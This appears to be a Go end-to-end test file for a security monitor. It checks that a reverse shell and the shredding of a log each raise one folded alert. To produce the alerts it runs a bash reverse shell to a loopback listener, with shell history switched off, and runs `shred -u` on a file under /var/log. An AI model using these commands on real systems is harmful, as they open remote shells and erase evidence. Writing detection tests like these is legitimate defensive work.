package e2e

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// attacker listens on 127.0.0.1 for one reverse shell, types commands into
// it and reads what comes back until it hangs up; served says how that went.
func attacker(t *testing.T, commands string) (int, <-chan error) {
	t.Helper()
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	served := make(chan error, 1)
	go func() {
		c, err := l.Accept()
		if err != nil {
			served <- err
			return
		}
		defer c.Close()
		_, err = io.WriteString(c, commands)
		io.Copy(io.Discard, c)
		served <- err
	}()
	return l.Addr().(*net.TCPAddr).Port, served
}

// printedAlerts are the records of rule that are alerts, not fold summaries.
func printedAlerts(m *monitor, rule string, pred func(rec) bool) []rec {
	return m.find(func(r rec) bool { return hasRule(r, rule) && r.get("repeats") == nil && pred(r) })
}

// One incident is one alert.  A reverse shell wired by bash to a listener
// (here on loopback) runs what it is sent; every program it starts
// inherits the socket and is a reverse shell too.  Before, each got its own
// critical line (27 for one root login with its .bashrc).  Now the first
// line stands for the incident and the summary lists the processes.
func TestAReverseShellIsOneIncident(t *testing.T) {
	// what the attacker types: three programs, then leave
	port, served := attacker(t, "sh -c true\nsh -c true\nbash -c true\nexit\n")
	m := startMonitor(t)
	sh := exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
	sh.Env = append(os.Environ(), "HISTFILE=/dev/null")
	if out, err := sh.CombinedOutput(); err != nil {
		t.Fatalf("%v: %v: %s", sh, err, out)
	}
	if err := <-served; err != nil {
		t.Fatal(err)
	}
	tree := inTree(sh.Process.Pid)
	m.drain(t) // the folded alerts print nothing: everything before the marker was judged
	if got := printedAlerts(m, "reverse-shell", tree); len(got) != 1 {
		t.Errorf("%d reverse-shell lines for one incident, want 1: %v", len(got), got)
	}
	m.stop(t)
	sums := m.find(func(r rec) bool { return hasRule(r, "reverse-shell") && r.get("repeats") != nil && tree(r) })
	if len(sums) != 1 {
		t.Fatalf("%d reverse-shell summaries at stop, want 1", len(sums))
	}
	s := sums[0]
	if n := s.num("repeats"); n < 4 || s.num("folded", "pid_count") < 4 || !strings.Contains(s.str("message"), "other processes of this incident") {
		t.Errorf("summary: repeats %v, folded %v, message %q; want at least bash -i and its 3 programs", n, s.get("folded"), s.str("message"))
	}
}

// One action is one alert.  shred -u renames a log once per character of
// its name before it unlinks it: before, each rename was a log-tampering
// line (24 for one log).  Now one line, and the summary lists the names.
func TestShreddingALogIsOneAlert(t *testing.T) {
	log := filepath.Join("/var/log", fmt.Sprintf("e2e-shred-%d.log", os.Getpid()))
	if err := os.WriteFile(log, []byte("evidence\n"), 0o640); err != nil {
		t.Fatal(err)
	}
	defer os.Remove(log)
	m := startMonitor(t)
	pid := runIn(t, "/", "shred", "-u", log)
	m.drain(t) // the folded renames and the unlink print nothing
	if got := printedAlerts(m, "log-tampering", pidIs(pid)); len(got) != 1 {
		t.Errorf("%d log-tampering lines for one shred, want 1", len(got))
	}
	m.stop(t)
	sums := m.find(func(r rec) bool { return hasRule(r, "log-tampering") && r.get("repeats") != nil && pidIs(pid)(r) })
	if len(sums) != 1 {
		t.Fatalf("%d summaries, want 1", len(sums))
	}
	renames := len(filepath.Base(log)) // one rename per character, then the unlink
	if n := int(sums[0].num("repeats")); n < renames-1 || int(sums[0].num("folded", "object_count")) < renames-1 {
		t.Errorf("summary: repeats %d, folded %v; want about %d renames", n, sums[0].get("folded"), renames)
	}
}
